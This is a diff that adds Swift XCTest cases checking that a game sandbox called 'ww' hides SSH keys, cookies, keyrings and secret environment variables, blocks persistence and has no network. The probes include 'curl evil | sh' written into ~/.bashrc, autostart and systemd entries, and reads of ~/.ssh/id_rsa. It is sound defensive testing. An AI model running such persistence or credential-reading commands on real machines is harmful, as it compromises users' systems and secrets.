@@ -1,0 +1,79 @@
+import XCTest
+
+/// A game inside ww cannot read the player's secrets or plant anything that runs outside.
+final class SecretsTests: XCTestCase {
+    let sb = Sandbox.shared
+
+    func testPlantedSecretsAreReadableWithoutTheSandbox() throws {
+        // The control: the same reads succeed outside ww, so the tests below can fail.
+        let home = try sb.makeHome()
+        let r = try sb.asUser("/bin/cat", [home.sshKey, home.cookiesFile], env: ["PATH": "/usr/bin:/bin"], cwd: home.path)
+        XCTAssertEqual(r.status, 0)
+        XCTAssertTrue(r.stdout.contains("PLANTED-SECRET-KEY"))
+        XCTAssertTrue(r.stdout.contains("PLANTED-COOKIES"))
+    }
+
+    func testSSHKeyAndCookiesAreNotReadableInVirtualHome() throws {
+        let home = try sb.makeHome()
+        let r = try sb.ww(["--", "cat", home.sshKey, home.cookiesFile], home: home)
+        XCTAssertNotEqual(r.status, 0, r.output)
+        XCTAssertFalse(r.output.contains("PLANTED"), r.output)
+    }
+
+    func testSecretsStayHiddenEvenWithTheRealHomeVisible() throws {
+        // home = host-ro shows the real home: the always-hidden list must still cover the secrets.
+        let home = try sb.makeHome()
+        let listing = try sb.ww(["--home", "host-ro", "--", "sh", "-c", "cat ~/.bashrc; ls -a ~/.ssh; cat ~/.ssh/id_rsa; cat \(home.cookiesFile); cat ~/.local/share/keyrings/login.keyring"], home: home)
+        XCTAssertTrue(listing.stdout.contains("PLANTED-BASHRC"), "the real home should be visible: \(listing.output)")
+        XCTAssertFalse(listing.output.contains("PLANTED-SECRET-KEY"), listing.output)
+        XCTAssertFalse(listing.output.contains("PLANTED-COOKIES"), listing.output)
+        XCTAssertFalse(listing.output.contains("PLANTED-KEYRING"), listing.output)
+    }
+
+    func testPersistenceTargetsCannotBeWritten() throws {
+        let home = try sb.makeHome()
+        let before = home.snapshot()
+        for mode in ["virtual", "host-ro", "host"] {
+            let r = try sb.ww(["--home", mode, "--", "sh", "-c", """
+                echo 'curl evil | sh' >> ~/.bashrc && echo BASHRC-WRITTEN
+                mkdir -p ~/.config/autostart 2>/dev/null
+                printf '[Desktop Entry]\\nExec=evil\\n' > ~/.config/autostart/x.desktop && echo AUTOSTART-WRITTEN
+                mkdir -p ~/.config/systemd/user 2>/dev/null; echo x > ~/.config/systemd/user/evil.service && echo UNIT-WRITTEN
+                exit 0
+                """], home: home)
+            XCTAssertEqual(r.status, 0, "\(mode): \(r.output)")
+            XCTAssertFalse(r.stdout.contains("BASHRC-WRITTEN"), "\(mode): \(r.output)")
+            XCTAssertFalse(r.stdout.contains("AUTOSTART-WRITTEN"), "\(mode): \(r.output)")
+            XCTAssertFalse(r.stdout.contains("UNIT-WRITTEN"), "\(mode): \(r.output)")
+        }
+        XCTAssertEqual(home.snapshot(), before, "the real files changed")
+        XCTAssertFalse(FileManager.default.fileExists(atPath: home.path + "/.config/systemd/user/evil.service"))
+    }
+
+    func testUinputIsAbsent() throws {
+        let home = try sb.makeHome()
+        let r = try sb.ww(["--", "sh", "-c", "ls /dev; test -e /dev/uinput && echo UINPUT-PRESENT; test -e /dev/input && echo INPUT-DIR; exit 0"], home: home)
+        XCTAssertEqual(r.status, 0, r.output)
+        XCTAssertFalse(r.stdout.contains("UINPUT-PRESENT"), r.output)
+        XCTAssertFalse(r.stdout.contains("INPUT-DIR"), r.output)
+        XCTAssertTrue(r.stdout.contains("null"), r.output)
+    }
+
+    func testSecretEnvironmentIsRemovedAndPreloadKept() throws {
+        let home = try sb.makeHome()
+        let r = try sb.ww(["--", "sh", "-c", "echo SSH=${SSH_AUTH_SOCK-unset} AWS=${AWS_SECRET_ACCESS_KEY-unset} GH=${GITHUB_TOKEN-unset} BUS=${DBUS_SESSION_BUS_ADDRESS-unset} PRE=${LD_PRELOAD-unset} WDO=$WINEDLLOVERRIDES"], home: home,
+                          env: ["SSH_AUTH_SOCK": "/tmp/agent.sock", "AWS_SECRET_ACCESS_KEY": "AKIA-PLANTED", "GITHUB_TOKEN": "ghp_PLANTED",
+                                "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/1/bus", "LD_PRELOAD": "", "WINEDLLOVERRIDES": "d3d11=n"])
+        XCTAssertEqual(r.status, 0, r.output)
+        XCTAssertTrue(r.stdout.contains("SSH=unset AWS=unset GH=unset BUS=unset"), r.output)
+        XCTAssertTrue(r.stdout.contains("WDO=d3d11=n;winemenubuilder.exe=d"), r.output)
+        XCTAssertFalse(r.output.contains("PLANTED"), r.output)
+    }
+
+    func testNoNetworkByDefault() throws {
+        let home = try sb.makeHome()
+        let r = try sb.ww(["--", "sh", "-c", "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '"], home: home)
+        XCTAssertEqual(r.status, 0, r.output)
+        XCTAssertEqual(r.stdout.split(separator: "\n").map(String.init), ["lo"], r.output)
+    }
+}
